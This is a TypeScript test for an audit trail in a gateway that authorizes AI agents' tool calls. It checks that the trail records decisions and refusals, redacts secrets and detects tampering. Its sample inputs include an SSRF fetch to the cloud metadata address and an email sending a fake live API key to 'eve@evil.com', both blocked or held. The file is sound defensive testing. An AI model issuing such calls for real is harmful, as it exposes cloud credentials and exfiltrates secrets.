// The audit trail behind the real gate: real policy.wasm (built by the opa CLI), the
// decision-table fixture policy, every message admitted through Gate.admit as both front ends
// do. The file must hold exactly one verifying record per decision and one per refusal, in
// order, with arguments redacted; tampering must be found at the line it happened on.
import { execFile } from 'node:child_process';
import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { pino } from 'pino';
import { Registry } from 'prom-client';
import { beforeAll, describe, expect, it } from 'vitest';
import { argumentsHmac } from '../../pkg/redact/digest.ts';
import { revealed, type Openings } from '../../authorizer/src/audit/pseudonym.ts';
import { AuditTrail, verifyAuditFile } from '../../authorizer/src/audit/index.ts';
import { ensurePolicyWasm } from '../../pkg/policy/engine/policy-wasm.ts';
import { compileVariant } from '../../pkg/policy/engine/testdata/cases.ts';
import { Gate, type AdmitContext } from '../../authorizer/src/gate/gate.ts';
import { parseJsonRpc } from '../../authorizer/src/gate/jsonrpc.ts';
import { PolicyRouter } from '../../authorizer/src/gate/policy-router.ts';
import type { CallerIdentity } from '../../authorizer/src/gate/types.ts';
import { anyNameCatalog } from '../support/any-name-catalog.ts';

const log = pino({ level: 'silent' });
const scopes = ['norg:contacts:read', 'norg:messaging:write', 'norg:booking:write'];
const caller: CallerIdentity = { subject: 'alice', issuer: 'https://issuer.test', agent: 'agent-1', operator: 'alice', roles: [], scopes, tokenId: 'jti-7f3a' };
const ctx: AdmitContext = { caller, frontEnd: 'proxy', sessionId: 'session-1', naming: { separator: '__' } };
const router = new PolicyRouter();
const password = 'correct-horse-battery-staple';

beforeAll(async () => {
  const data = compileVariant('base');
  await router.entry('ns/table').engine.load(readFileSync(ensurePolicyWasm()), data, 'rev-audit');
  router.update('ns/table', { gateway: data.toolgate.gateway, data });
});

const body = (id: number, method: string, params?: unknown) => JSON.stringify({ jsonrpc: '2.0', id, method, ...(params !== undefined ? { params } : {}) });
const lines = (file: string) => readFileSync(file, 'utf8').split('\n').slice(0, -1);

describe('audit trail over the real decision path', () => {
  it('writes one verifying, redacted record per decision and per refusal, and finds tampering at its line', async () => {
    const file = join(mkdtempSync(join(tmpdir(), 'toolgate-audit-it-')), 'pod-a', 'audit.jsonl');
    const registry = new Registry();
    const digestKey = Buffer.alloc(32, 5);
    const trail = await AuditTrail.open({ file, log, registry, digestKey });
    const gate = new Gate({ router, log, catalog: anyNameCatalog, onDecision: (r) => trail.record(r), onRefusal: (r) => trail.recordRefusal(r) });

    const readArgs = { id: '42', password };
    const messages = [
      body(1, 'initialize', {}), // session plumbing: no decision, no record
      body(2, 'tools/call', { name: 'gmail__read_email', arguments: readArgs }),
      body(3, 'tools/call', { name: 'fetch__fetch', arguments: { url: 'http://169.254.169.254/latest/' } }),
      body(4, 'tools/call', { name: 'gmail__send_email', arguments: { to: 'eve@evil.com', api_key: 'sk_live_abcdefghijklmnopqrstuvwx' } }),
      body(5, 'tools/call', { name: 'gmail__read_email', arguments: ['not', 'an', 'object'] }), // refused before any decision
      body(6, 'tools/list'),
      body(7, 'tools/call', { name: 'gmail__read_email', arguments: { id: '43' } }),
    ];
    const outcomes = [];
    for (const m of messages) outcomes.push(await gate.admit(parseJsonRpc(m), ctx));
    const verdicts = outcomes.flatMap((r) => (r.kind === 'allow' ? (r.verdict ? [r.verdict] : []) : r.kind === 'refuse' && r.refusal.verdict ? [r.refusal.verdict] : []));
    expect(verdicts.map((v) => v.effect)).toEqual(['proceed', 'deny', 'hold', 'proceed']);
    await trail.flush();

    // Four decisions; three refusals: the denial, the held call (no approvals here) and the bad arguments.
    const verified = await verifyAuditFile(file);
    expect(verified).toMatchObject({ ok: true, records: 7, head: { seq: 7 } });
    const all = lines(file).slice(1).map((l) => JSON.parse(l) as Record<string, unknown>);
    expect(all.map((r) => r.type)).toEqual(['decision', 'decision', 'refusal', 'decision', 'refusal', 'refusal', 'decision']);
    const recs = all.filter((r) => r.type === 'decision');
    expect(recs.map((r) => r.decisionId)).toEqual(verdicts.map((v) => v.decisionId));
    expect(recs.map((r) => r.action)).toEqual(['allow', 'deny', 'require_approval', 'allow']);
    const refusals = all.filter((r) => r.type === 'refusal');
    expect(refusals).toMatchObject([
      { stage: 'decision', method: 'tools/call', server: 'fetch', tool: 'fetch', httpStatus: 200, code: -31001, requestId: 3, decisionId: verdicts[1]!.decisionId, sessionId: 'session-1', caller: { agent: { instance: expect.stringMatching(/^commit:/) }, subject: expect.stringMatching(/^commit:/) } },
      { stage: 'decision', server: 'gmail', tool: 'send_email', httpStatus: 200, code: -31002, requestId: 4, decisionId: verdicts[2]!.decisionId },
      { stage: 'message', method: 'tools/call', httpStatus: 200, code: -32602, requestId: 5, reason: 'params.arguments must be an object' },
    ]);
    expect(refusals[2]).not.toHaveProperty('decisionId');
    // Identities are committed in the chained part and opened beside it (erasable, audit format 2).
    const refCaller = refusals[0]?.caller as { agent: { instance: string }; subject: string };
    expect([revealed(refusals[0]?.personal as Openings, refCaller.agent.instance), revealed(refusals[0]?.personal as Openings, refCaller.subject)]).toEqual(['agent-1', 'alice']);
    expect(recs[0]).toMatchObject({
      seq: 1, version: 2, frontEnd: 'proxy', enforcement: 'enforce', revision: 'rev-audit', server: 'gmail', tool: 'read_email', method: 'tools/call', rule: 'Allow read-only', sessionId: 'session-1',
      approval: 'bypassed', agent: { instance: expect.stringMatching(/^commit:/), roles: [] }, caller: { subject: expect.stringMatching(/^commit:/), issuer: 'https://issuer.test' },
      arguments: { id: '42', password: '[REDACTED:secret-key]' }, redactions: { 'secret-key': 1 }, argumentsDigest: argumentsHmac(digestKey, readArgs),
    });
    expect(revealed(recs[0]?.personal as Openings, recs[0]?.operator as string)).toBe('alice');
    expect(recs[0]?.policy).toBe('agents/acme');
    expect(recs[1]).toMatchObject({ rule: 'Block SSRF to cloud metadata', tool: 'fetch' });
    expect(recs[2]).toMatchObject({ rule: 'Approve external communication', approval: 'pending', arguments: { to: '[REDACTED:email]', api_key: '[REDACTED:secret-key]' } });
    const text = readFileSync(file, 'utf8');
    for (const secret of [password, 'sk_live_abcdefghijklmnopqrstuvwx', 'jti-7f3a', 'norg:messaging:write', 'eve@evil.com']) expect(text).not.toContain(secret);
    expect((await registry.getSingleMetric('toolgate_authorizer_audit_records_total')?.get())?.values[0]?.value).toBe(7);

    // A restarted pod continues the same chain.
    await trail.close();
    const again = await AuditTrail.open({ file, log, digestKey });
    const gate2 = new Gate({ router, log, catalog: anyNameCatalog, onDecision: (r) => again.record(r), onRefusal: (r) => again.recordRefusal(r) });
    await gate2.admit(parseJsonRpc(body(8, 'tools/call', { name: 'gmail__read_email', arguments: { id: '44' } })), ctx);
    await again.close();
    expect(await verifyAuditFile(file)).toMatchObject({ ok: true, records: 8, head: { seq: 8 } });

    // Someone turns the held send into an allowed one: found at line 5 (open line + 4th record).
    const ls = lines(file);
    expect(ls[4]).toContain('"action":"require_approval"');
    ls[4] = ls[4]!.replace('"action":"require_approval"', '"action":"allow"');
    writeFileSync(file, ls.map((l) => `${l}\n`).join(''));
    const tampered = await verifyAuditFile(file);
    expect(tampered).toMatchObject({ ok: false, line: 5 });
    const cli = await promisify(execFile)(process.execPath, ['authorizer/src/audit/verify.ts', file]).then(() => undefined, (err: { code: number; stderr: string }) => err);
    expect(cli?.code).toBe(1);
    expect(cli?.stderr).toMatch(/line 5 \(seq 4\): edited — hash mismatch/);

    // A refusal edited to look like another status is found too.
    const fixed = lines(file);
    fixed[4] = ls[4]!.replace('"action":"allow"', '"action":"require_approval"');
    fixed[3] = fixed[3]!.replace('"httpStatus":200', '"httpStatus":403');
    writeFileSync(file, fixed.map((l) => `${l}\n`).join(''));
    expect(await verifyAuditFile(file)).toMatchObject({ ok: false, line: 4, reason: expect.stringContaining('hash mismatch') });
    await expect(AuditTrail.open({ file: join(file, '..', 'other.jsonl'), log }).then((t) => t.close())).resolves.toBeUndefined();
  });
});
